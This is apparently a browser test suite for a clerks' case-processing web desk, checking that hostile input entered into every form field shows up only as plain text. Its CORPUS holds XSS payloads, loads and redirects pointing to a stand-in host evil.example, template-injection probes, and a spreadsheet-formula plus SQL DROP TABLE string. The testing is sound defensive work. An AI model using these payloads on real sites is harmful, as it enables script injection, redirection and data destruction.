"""Hostile strings in every field, on every page of the desk, in a real browser: they are words and nothing else."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page

from tests.bot.desk.clerk import accept, confirm, judge, open_and_claim, rest
from tests.bot.desk.clerk import act as do
from tests.bot.desk.conftest import PASSWORD, House
from tests.journeys.browser import desktop, real_browser

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("chromium"), pytest.mark.timeout(240)]

CORPUS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)><a href='",
    "</textarea></title></style><svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{background:url(//evil.example/y)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<form action=//evil.example><button autofocus onfocus=alert(1)>",
    "javascript:alert(1)//",
    "{{7*7}}{%raw%}${alert(1)}<%= 1 %>",
    "'-alert(1)-'\\u003cimg src=x onerror=alert(1)\\u003e&lt;img src=x onerror=alert(1)&gt;",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>",
    "\u202e\u2066倒\u0000过\ufeff来\U000e0001",
    '=HYPERLINK("//evil.example")\'; DROP TABLE cases; --',
)
FIELDS = ("name", "hukou_province", "hukou_county", "hukou_address", "current_address", "permit_place", "permit_number")


def watched(page: Page, base: str) -> list[str]:
    """Dialogs, script errors, refusals of the policy, and requests to anybody else."""
    troubles: list[str] = []

    async def dialog(opened: object) -> None:
        troubles.append("a dialog opened")
        await opened.dismiss()  # type: ignore[attr-defined]  # Playwright's Dialog

    home = urlsplit(base).netloc
    page.on("dialog", dialog)
    page.on("pageerror", lambda error: troubles.append(f"script: {error}"))
    page.on("console", lambda said: troubles.append(f"console: {said.text}") if said.type == "error" else None)
    page.on(
        "request",
        lambda sent: troubles.append(f"request: {sent.url}") if urlsplit(sent.url).netloc != home else None,
    )
    return troubles


async def looked_over(page: Page, address: str, words: str) -> None:
    """Open a page, poke what is there, and see that the words are text in it."""
    await page.goto(address)
    await page.wait_for_load_state("networkidle")
    assert (
        await page.evaluate("() => document.querySelectorAll('main script, main iframe, main base, main meta').length")
        == 0
    )
    assert (
        await page.evaluate("() => document.querySelectorAll('[onerror], [onload], [onfocus], [ontoggle]').length") == 0
    )
    core = words.strip("\u202e\u2066\u0000\ufeff\U000e0001")[:12]
    shown = await page.evaluate("() => document.querySelector('main').textContent")
    assert core.split("\u0000")[0] in shown or "queue" in address or "takeover" in address, (address, words)


@pytest.mark.parametrize("half", [0, 1])
async def test_hostile_words_stay_words_in_every_field_and_on_every_page(house: House, half: int) -> None:
    """Answers, signature, periods, note and opinion: no dialog, no request elsewhere, no error in the console."""
    async with real_browser() as browser:
        page = await (await desktop(browser)).new_page()
        troubles = watched(page, house.base)
        await page.goto(f"{house.base}/desk/login")
        await page.fill("#login", "quan")
        await page.fill("#password", PASSWORD)
        await page.keyboard.press("Enter")
        await page.wait_for_selector("header.top")
        for words in CORPUS[half::2]:
            given = dict.fromkeys(FIELDS, words)
            case = await house.submit(
                **given,
                declaration=words,
                agent_name=words,
                registered_periods=[{"place": words, "from": "2025-01-01", "to": None}],
            )
            clerk = await house.as_("lin")
            await open_and_claim(clerk, case)
            await judge(clerk, "answer:name", False, ["name_differs"], words)
            await rest(clerk)
            await do(clerk, "return_for_correction", words)
            await confirm(clerk)
            await house.correct(case.case_id, name=f"{words}改")
            base = f"{house.base}/desk/cases/{case.case_id}"
            await looked_over(page, base, words)
            await looked_over(page, f"{base}/form", words)
            await looked_over(page, f"{base}/pages/{case.pages[0].page_id}", words)
            await page.goto(base)
            await page.click("form[action$='/claim'] button")
            await page.wait_for_selector("html.js #opinion")
            await page.check("#no-answer-name")
            await page.check("#r-answer-name-1")
            await page.fill("#n-answer-name", words.replace("\u0000", ""))
            await page.wait_for_selector("#v-answer-name .kept >> text=✓")
            await page.fill("#search", words.replace("\u0000", "")[:60])
            await page.press("#search", "Enter")
            await page.wait_for_selector("h1")
            await looked_over(page, f"{house.base}/desk?office=intake", words)
        assert troubles == []


async def test_a_clerks_own_words_are_only_words_to_the_next_office(house: House) -> None:
    """An opinion of 受理 is read by 审核, in the timeline and on the form, as it was written."""
    case = await house.submit()
    await accept(house, case)
    async with real_browser() as browser:
        page = await (await desktop(browser)).new_page()
        troubles = watched(page, house.base)
        clerk = await house.as_("zhou")
        await open_and_claim(clerk, case)
        await do(clerk, "examine", CORPUS[0], recommends="approve")
        await page.goto(f"{house.base}/desk/login")
        await page.fill("#login", "ye")
        await page.fill("#password", PASSWORD)
        await page.keyboard.press("Enter")
        await page.wait_for_selector("header.top")
        for place in ("", "/form"):
            await page.goto(f"{house.base}/desk/cases/{case.case_id}{place}")
            assert CORPUS[0] in await page.inner_text("main")
        assert troubles == []
